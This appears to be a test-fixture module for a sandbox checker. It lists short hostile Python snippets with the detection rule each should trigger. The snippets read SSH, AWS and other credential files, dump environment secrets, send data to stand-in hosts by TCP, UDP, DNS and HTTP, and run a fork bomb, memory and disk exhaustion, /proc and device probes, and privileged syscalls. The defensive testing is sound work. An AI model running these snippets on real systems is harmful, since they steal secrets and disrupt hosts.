"""What hostile artifacts do, one short program each, and what names it.

Written for these tests: each takes one step of an attack and says on stdout how far it came.
`HOSTILE` maps a name to (source, the rules of checks that name it, without the check).
"""

HOME = "import os; home = os.environ['HOME']\n"

HOSTILE: dict[str, tuple[str, str]] = {
    # credential theft
    "reads-aws-keys": (
        HOME + "print(len(open(home + '/.aws/credentials').read()))",
        "credential-read",
    ),
    "reads-ssh-key": (HOME + "open(home + '/.ssh/id_ed25519').read()", "credential-read"),
    "walks-the-home": (
        HOME + "for base, _, names in os.walk(home):\n"
        "    for name in names:\n"
        "        open(os.path.join(base, name), 'rb').read()",
        "credential-read",
    ),
    "reads-by-another-program": (
        HOME + "import subprocess; subprocess.run(['cat', home + '/.npmrc'], capture_output=True)",
        "credential-read",
    ),
    "reads-through-a-link": (
        HOME + "os.symlink(home + '/.git-credentials', '/tmp/x'); open('/tmp/x').read()",
        "credential-read",
    ),
    "prints-the-environment": ("import os; print(dict(os.environ))", "canary-leaked"),
    "prints-it-encoded": (
        "import base64, os; print(base64.b64encode(repr(dict(os.environ)).encode()).decode())",
        "canary-leaked",
    ),
    # ways out
    "sends-by-tcp": (
        "import socket\n"
        "s = socket.socket(); s.settimeout(3)\n"
        "try:\n    s.connect(('203.0.113.9', 4444)); s.sendall(b'stolen')\n"
        "except OSError as fault:\n    print(fault)",
        "undeclared-network",
    ),
    "sends-by-dns": (
        "import socket\n"
        "try:\n    socket.getaddrinfo('c3RvbGVu.drop.example', 80)\n"
        "except OSError as fault:\n    print(fault)",
        "undeclared-network",
    ),
    "sends-by-http": (
        "import urllib.request\n"
        "try:\n    urllib.request.urlopen('http://collector.example/in', b'stolen', timeout=3)\n"
        "except OSError as fault:\n    print(fault)",
        "undeclared-network",
    ),
    "sends-by-udp": (
        "import socket\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "try:\n    s.sendto(b'stolen', ('203.0.113.9', 53))\n"
        "except OSError as fault:\n    print(fault)",
        "undeclared-network",
    ),
    "speaks-to-the-hypervisor": (
        "import socket\n"
        "try:\n    socket.socket(40, socket.SOCK_STREAM)\n"
        "except OSError as fault:\n    print(fault)",
        "privilege-attempt",
    ),
    # too much of everything
    "fork-bomb": ("import os\nwhile True:\n    os.fork()", "limit-*"),
    "memory-hog": ("held = []\nwhile True:\n    held.append(bytearray(16 << 20))", "limit-memory"),
    "disk-filler": (
        "try:\n    with open('/workspace/x', 'wb') as f:\n        while True:\n            f.write(bytes(1 << 20))\n"
        "except OSError as fault:\n    print(fault)",
        "",
    ),
    "endless-output": ("while True:\n    print('x' * 65536)", "limit-output"),
    "spins": ("while True:\n    pass", "limit-*"),
    "sleeper": ("import time\ntime.sleep(3600)", "limit-wall-time"),
    # places
    "writes-outside": (
        "for path in ('/usr/x', '/etc/x', '/artifact/x', '/assay/x', '/x'):\n"
        "    try:\n        open(path, 'w')\n    except OSError as fault:\n        print(fault)",
        "host-change write-outside",
    ),
    "probes-proc": (
        "for path in ('/proc/sys/kernel/core_pattern', '/proc/1/environ', '/proc/kcore', '/proc/1/mem'):\n"
        "    try:\n        open(path, 'r+b')\n    except OSError as fault:\n        print(fault)",
        "host-probe host-change",
    ),
    "probes-devices": (
        "for path in ('/dev/mem', '/dev/kmsg', '/dev/sda', '/dev/kvm', '/dev/fuse'):\n"
        "    try:\n        open(path, 'rb')\n    except OSError as fault:\n        print(fault)",
        "host-probe",
    ),
    "hard-links-out": (
        "import os\n"
        "for source in ('/etc/passwd', '/usr/bin/env', '/proc/1/mem'):\n"
        "    try:\n        os.link(source, '/tmp/linked')\n    except OSError as fault:\n        print(fault)",
        "host-change host-probe",
    ),
    # rights
    **{
        f"calls-{name}": (
            f"import ctypes; print(ctypes.CDLL(None, use_errno=True).syscall({number}, 0, 0, 0, 0, 0))",
            "privilege-attempt" if number != 425 else "unusual-call",
        )
        for name, number in (
            ("ptrace", 101),
            ("mount", 165),
            ("unshare", 272),
            ("setns", 308),
            ("keyctl", 250),
            ("bpf", 321),
            ("io-uring", 425),
            ("process-vm-readv", 310),
        )
    },
    # processes
    "daemon-outlives-its-parent": (
        "import os, time\n"
        "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
        "        time.sleep(120)\n    os._exit(0)\n"
        "print('gone')",
        "",
    ),
    "signals-everybody": (
        "import os, signal\n"
        "for pid in (1, 2, -1):\n"
        "    try:\n        os.kill(pid, signal.SIGTERM if pid == -1 else 0)\n"
        "    except OSError as fault:\n        print(fault)",
        "unusual-call",
    ),
}
